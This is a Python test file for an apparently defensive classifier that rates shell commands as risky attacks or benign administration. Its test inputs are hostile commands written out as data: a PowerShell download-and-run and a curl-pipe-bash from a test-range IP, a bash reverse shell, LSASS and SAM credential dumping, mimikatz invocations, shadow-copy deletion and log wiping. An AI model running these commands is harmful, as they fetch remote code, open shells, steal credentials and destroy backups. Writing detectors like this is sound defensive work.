"""Risk of commands: a probability with reasons, over the threshold for attacks and under it for administration."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from vedette.commands import judging
from vedette.commands.engine import trace
from vedette.commands.judging.model import RISK, TECHNIQUES, judge
from vedette.commands.judging.rating import GRAVE, standing
from vedette.models import shipped

BENIGN = Path(__file__).resolve().parents[3] / "benchmarks" / "commands" / "benign"


@pytest.mark.parametrize(
    "command",
    [
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.3/a.ps1')\"",
        "vssadmin delete shadows /all /quiet",
        "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Temp\\l.dmp full",
        "bash -i >& /dev/tcp/198.51.100.3/443 0>&1",
        "reg save HKLM\\SAM C:\\Temp\\sam.hiv",
        "curl -s http://198.51.100.3/x.sh | bash; history -c; rm -rf /var/log/*",
    ],
)
def test_attack_is_risky_and_says_why(command: str) -> None:
    value, risky, reasons = judging.risk(trace(command))
    assert risky
    assert judging.RISKY <= value <= 1
    assert reasons
    assert [r.weight for r in reasons[1:]] == sorted((r.weight for r in reasons[1:]), reverse=True)


@pytest.mark.parametrize("command", ["git pull", "ls -la /srv", "Get-Service Tomcat9", "kubectl get pods", "npm ci"])
def test_everyday_command_is_not_risky(command: str) -> None:
    value, risky, _ = judging.risk(trace(command))
    assert not risky
    assert value < judging.RISKY


@pytest.mark.parametrize(
    "command",
    [
        "mimikatz sekurlsa::logonpasswords",
        'mimikatz.exe "privilege::debug" "lsadump::sam" exit',
        "mimikatz lsadump::dcsync",
    ],
)
def test_act_that_hardly_ever_is_benign_stands_by_itself(command: str) -> None:
    traces = trace(command)
    value, risky, reasons = judging.risk(traces)
    assert risky
    assert value >= max(fired.risk for fired in traces.fired) >= GRAVE
    assert reasons[0].weight >= GRAVE


def test_example_with_holes_does_not_stand_by_itself() -> None:
    text = 'mimikatz "sekurlsa::pth /user:<user> /domain:<domain> /ntlm:<hash>"'
    assert standing(trace(text), text) == 0
    filled = text.replace("<user>", "adm").replace("<domain>", "corp").replace("<hash>", "00")
    assert standing(trace(filled), filled) >= GRAVE


def test_nothing_has_no_risk() -> None:
    assert judging.risk(trace("")) == (0.0, False, ())
    assert judging.risk(trace(" \n\t")) == (0.0, False, ())


def test_false_alarms_over_administration_stay_few() -> None:
    texts = [json.loads(line)["text"] for line in (BENIGN / "development.jsonl").read_text("utf-8").splitlines()]
    risky = [text for text in texts if judging.risk(trace(text))[1]]
    assert len(texts) == 150
    assert len(risky) <= 4, risky


def test_measured_commands_are_not_trained_on() -> None:
    recipes = Path(__file__).resolve().parents[3] / "recipes" / "commands"
    taught = {
        json.loads(line)["text"].casefold()
        for name in ("attack.jsonl", "benign.jsonl")
        for line in (recipes / name).read_text("utf-8").splitlines()
    }
    for name in ("development.jsonl", "held-out.jsonl"):
        kept = {json.loads(line)["text"].casefold() for line in (BENIGN / name).read_text("utf-8").splitlines()}
        assert len(kept) == 150
        assert not kept & taught


@pytest.mark.parametrize("name", [TECHNIQUES, RISK])
def test_models_ship_small_and_whole(name: str) -> None:
    entry = shipped.entry(name)
    assert sum(file.size_bytes for file in entry.manifest.files) < 4_000_000
    assert (entry.path / "NOTICE.txt").read_text("utf-8").count("Atomic Red Team") == 1
    model = judge(name)
    assert len(model.labels) == model.weights.n_labels


def test_same_command_is_rated_the_same_again() -> None:
    one, other = trace("net accounts"), trace("vssadmin delete shadows /all")
    first = judging.risk(one)
    judging.risk(other)
    assert judging.risk(one) == first
